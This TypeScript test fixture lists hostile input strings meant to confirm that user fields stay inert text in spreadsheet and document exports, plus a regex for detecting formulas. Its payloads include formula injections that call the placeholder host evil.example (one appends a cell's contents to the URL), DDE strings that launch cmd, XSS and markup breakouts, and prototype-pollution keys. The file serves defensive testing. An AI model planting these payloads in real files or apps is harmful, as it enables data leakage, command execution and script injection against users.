/** What a hostile or careless person may write into any field: none of it may become anything but text. */

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"подробнее")',
  "=cmd|'/C calc'!A0",
  '=IMPORTXML("http://evil.example","//a")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  'DDE("cmd";"/C calc";"x")',
  '{=1+1}',
  ' =1+1',
  '\u00a0=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  "'=1+1",
  "''=1+1",
  '=',
  'Музей;=1+1',
  'Музей";=1+1;"',
  'Музей\r\n=1+1',
  '\u202e=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\uff1d1+1',
];

const MARK_UP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  ']]><f>1+1</f><![CDATA[',
  '</t></is></c><c><f>1+1</f></c>',
  '</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\x "y"</w:instrText></w:r>',
  '<!--',
  '&lt;b&gt;&#x3c;&amp;',
  '<?php ?>',
  'javascript:alert(1)',
  '{#партнёры}{наименование}{/партнёры}',
  '{@raw}',
];

const LETTERS = [
  'до\u0000после',
  'звонок\u0007\u0008\u000b\u001b[31m',
  'одна\ud800половина',
  '\udc00половина',
  '\ufffe\uffff',
  '\u202eзадом наперёд\u202c',
  '_x0041_ _x000D_',
  '😀',
  'a\u0301\u0301\u0301',
  '__proto__',
  'constructor',
];

/** A sentence of a kilobyte, so that every field of a record may be long and the record still fits a request. */
const LONG = 'Очень длинное слово без конца и края. '.repeat(27);

export const payloads: readonly string[] = [...FORMULAS, ...MARK_UP, ...LETTERS, LONG];

/** A spreadsheet takes text for a formula by these signs, whatever space stands before. */
export const LOOKS_LIKE_FORMULA = /^\s*[=+\-@]/;
